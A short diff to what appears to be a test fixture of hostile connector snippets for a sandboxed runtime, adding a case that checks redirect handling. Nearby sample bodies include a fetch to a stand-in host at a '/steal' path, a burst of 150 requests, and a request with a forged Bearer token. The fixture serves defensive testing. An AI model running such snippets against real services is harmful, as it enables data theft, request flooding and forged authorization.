@@ -75,6 +75,9 @@ export const hostileConnectors = {
     "await Promise.all(Array.from({ length: 150 }, (_, i) => this.runtime.fetch(this.runtime.options.base + '/model?i=' + i)));",
   ),
   disallowedHost: hostile("await this.runtime.fetch('https://not-allowed.example/steal'); return {};"),
+  followsRedirect: hostile(
+    "const r = await this.runtime.fetch(this.runtime.options.base + '/moved'); return { status: r.status, redirected: r.redirected, url: r.url };",
+  ),
   ownAuthorization: hostile(
     "const r = await this.runtime.fetch(this.runtime.options.base + '/model', { headers: { Authorization: 'Bearer forged' } }); return { status: r.status };",
   ),
